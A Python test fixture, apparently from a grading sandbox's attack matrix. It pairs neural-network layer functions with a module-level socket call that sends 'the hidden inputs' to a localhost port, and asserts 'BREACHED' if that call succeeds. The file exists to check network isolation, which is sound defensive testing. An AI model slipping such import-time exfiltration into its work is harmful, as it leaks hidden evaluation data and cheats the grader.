"""attack: fetch the solution or send inputs out over TCP
row: 8
layer: N + S
"""

import socket

import numpy as np

loot = []

with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as connection:
    connection.sendall(b"the hidden inputs")
    loot.append("connected")


def affine_forward(x, w, b):
    assert not loot, f"BREACHED {loot}"
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    assert not loot, f"BREACHED {loot}"
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def total(x):
    assert not loot, f"BREACHED {loot}"
    return np.sum(x)
